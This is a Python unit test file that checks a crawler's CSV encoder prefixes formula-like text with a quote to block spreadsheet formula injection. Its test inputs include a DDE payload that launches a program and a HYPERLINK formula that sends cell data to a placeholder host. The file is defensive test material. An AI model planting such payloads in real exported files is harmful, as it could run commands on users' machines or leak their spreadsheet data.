"""Formulas in CSV: text of pages that a spreadsheet would evaluate gets a leading quote, numbers do not."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawl_engine.append.formats.csv import CsvEncoder
from crawl_engine.append.formats.writer import create_encoder
from tests.unit.append.formats.test_formats import as_stored, records, texts

STARTS = "=+-@\t\r\n＝＋－＠"


def cells(row: dict[str, Any], *, escape: bool = True) -> list[str]:
    encoder = CsvEncoder(list(row), escape_formulas=escape)
    text = encoder.rows([as_stored(row)]).decode()
    [cells] = csv.reader(io.StringIO(text, newline=""), strict=True)
    return cells


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "=",
        '=HYPERLINK("http://x/"&A1)',
    ],
)
def test_text_that_begins_like_a_formula_is_escaped(text: str) -> None:
    assert cells({"a": text}) == [f"'{text}"]
    assert cells({"a": text}, escape=False) == [text]


@pytest.mark.parametrize("text", ["", "a=1", "1-2", " =1", "'=1", "{=1}", "€-1"])
def test_other_text_is_unchanged(text: str) -> None:
    assert cells({"a": text, "b": "x"}) == [text, "x"]


def test_numbers_stay_numbers() -> None:
    row = {"int": -5, "decimal": Decimal("-5.10"), "list": [-1, -2], "none": None, "yes": True, "json": {"a": "=1"}}
    assert cells(row) == ["-5", "-5.10", "-1|-2", "", "true", '{"a":"=1"}']
    assert cells({"text": "-5"}) == ["'-5"], "what is not declared as a number is text"


def test_a_list_with_text_is_escaped_by_its_first_character() -> None:
    assert cells({"a": ["=1", "b"], "b": ["b", "=1"], "c": [-1, "=1"]}) == ["'=1|b", "b|=1", "'-1|=1"]


@given(records)
def test_only_what_begins_like_a_formula_changes(row: dict[str, Any]) -> None:
    if not row:
        return
    for value, plain, escaped in zip(row.values(), cells(row, escape=False), cells(row), strict=True):
        assert escaped in (plain, f"'{plain}")
        is_number = isinstance(value, int | Decimal | list) and not isinstance(value, bool)
        if plain[:1] and plain[0] in STARTS and not is_number:
            assert escaped == f"'{plain}"
        if not plain[:1] or plain[0] not in STARTS:
            assert escaped == plain


@given(st.lists(texts, min_size=1, max_size=3))
def test_no_cell_of_text_begins_like_a_formula(values: list[str]) -> None:
    for cell in cells({str(i): value for i, value in enumerate(values)}):
        assert not cell[:1] or cell[0] not in STARTS


def test_the_option_of_an_appender_reaches_the_encoder() -> None:
    settings = {"columns": ["a"], "joins": {}, "delimiter": ";"}
    assert create_encoder("csv", settings).rows(['{"a":"=1"}']) == b"=1\r\n"
    assert create_encoder("csv", {**settings, "escape_formulas": True}).rows(['{"a":"=1"}']) == b"'=1\r\n"
